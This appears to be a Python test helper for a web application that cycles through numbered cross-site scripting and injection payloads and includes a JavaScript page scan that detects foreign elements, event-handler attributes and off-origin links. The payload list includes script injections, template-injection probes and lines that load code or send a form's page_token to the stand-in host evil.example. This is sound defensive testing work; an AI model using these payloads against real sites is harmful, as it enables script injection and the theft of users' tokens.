"""Texts that try to run a script or to bring foreign elements into a page, and a look for whether one has.

Each text has a number of its own, ``m17m``, so that a test can tell which of them a page has shown.
"""

import itertools
import re
from collections.abc import Iterable, Iterator

RUN = "window.owned=1"
SHAPES: tuple[str, ...] = (
    # elements
    f"<script>{RUN}</script>",
    f"</script><script>{RUN}//",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<SCRIPT SRC=//evil.example/x.js></SCRIPT><script>{RUN}",
    f"<img src=x onerror={RUN}>",
    f"<img/src=x/onerror={RUN}//",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f'<svg><a xlink:href="javascript:{RUN}"><text>x</text></a></svg>',
    f'<iframe srcdoc="<script>parent.{RUN}</script>">',
    f"<iframe src=javascript:{RUN}>",
    f"<object data=javascript:{RUN}>",
    f"<embed src=javascript:{RUN}>",
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<marquee onstart={RUN}>",
    f"<a href=javascript:{RUN}>x</a>",
    f"<form action=javascript:{RUN}><button autofocus>x</button></form>",
    "<form action=//evil.example><input name=page_token></form>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>body{background:url(//evil.example/x)}</style>",
    '<p style="background:url(//evil.example/x)">',
    f"<template><script>{RUN}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    f"<!--><script>{RUN}</script>-->",
    f"<![CDATA[><script>{RUN}</script>]]>",
    # the ends of what a text may stand in
    f'"><script>{RUN}</script>',
    f"'><script>{RUN}</script>",
    f'" onmouseover="{RUN}" autofocus onfocus="{RUN}" x="',
    f"' onmouseover='{RUN}' autofocus onfocus='{RUN}' x='",
    f"` onmouseover=`{RUN}` x=`",
    f"</title><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"</select><script>{RUN}</script>",
    f"</style><script>{RUN}</script>",
    f"</pre></table></svg></main><script>{RUN}</script>",
    f'"}};{RUN};//',
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f"]]);{RUN}//",
    # other languages that could read it
    "{{ 7*7 }}{% for x in () %}",
    "{{ self.__init__.__globals__ }}",
    f"${{{RUN}}}#{{{RUN}}}",
    f"javascript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    'data: [["jobs_rows","x","<img src=x onerror=window.owned=1>"]]\n\nevent: parts\n\n',
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;script&#62;{RUN}&#60;/script&#62;",
    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
    # characters
    f"\u202e<script>{RUN}</script>\u2066",
    f"\u2028<script>{RUN}</script>\u2029",
    f"\x1b[2J<script>{RUN}</script>\x07\x7f\x85",
    f"<\ufeffscript>{RUN}</script>\u200b",
    f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e",
    "<" * 400 + "\u0301" * 40,
)
MARK = re.compile(r"m(\d+)m")

FIND_FOREIGN = """() => {
  const ours = new Set(`html head meta title link script body a div nav form span button p main h1 h2 h3
    section table thead tbody tfoot tr th td meter pre code details summary label input select option textarea
    time ul li figure figcaption article b i svg g path line rect circle text tspan polyline polygon use defs
    clipPath pattern header footer br small strong em`.split(/\\s+/));
  const leading = ["href", "src", "action", "formaction", "xlink:href", "data", "srcdoc", "poster"];
  const found = [];
  for (const element of document.querySelectorAll("*")) {
    const short = element.outerHTML.slice(0, 200), kind = element.localName;
    if (!ours.has(kind)) found.push(short);
    for (const { name, value } of element.attributes) {
      const leads = leading.includes(name) && !value.startsWith("#");
      const away = leads && new URL(value, location.href).origin !== location.origin;
      const acts = name.startsWith("on") || (name === "style" && element.id !== "tip");
      if (acts || away) found.push(`${kind} ${name}=${value.slice(0, 100)}`);
    }
    if (kind === "script" && !element.src && element.type !== "application/json") found.push(short);
    if (kind === "meta" && element.httpEquiv) found.push(short);
  }
  if (window.owned) found.push("a script has run");
  return found;
}"""
"""Returns elements and attributes that no template of ours writes."""


class HostileTexts:
    """An endless supply: each shape in turn, with the next number.

    Attributes:
        places: where each text stands, by its number.
    """

    def __init__(self) -> None:
        self._shapes = itertools.cycle(SHAPES)
        self.places: dict[int, str] = {}

    def make(self, place: str) -> str:
        """Return the next text, for a kind of place; its number is at its beginning and at its end."""
        number = len(self.places) + 1
        self.places[number] = place
        return f"m{number}m {next(self._shapes)} m{number}m"

    def make_many(self, place: str, count: int) -> list[str]:
        return [self.make(place) for _ in range(count)]

    def make_fields(self, place: str, *names: str) -> dict[str, str]:
        """Return a text for each of some fields."""
        return {name: self.make(f"{place}: {name}") for name in names}


def list_marks(texts: Iterable[str]) -> Iterator[int]:
    """Yield the numbers of the hostile texts that some texts contain."""
    for text in texts:
        yield from map(int, MARK.findall(text))
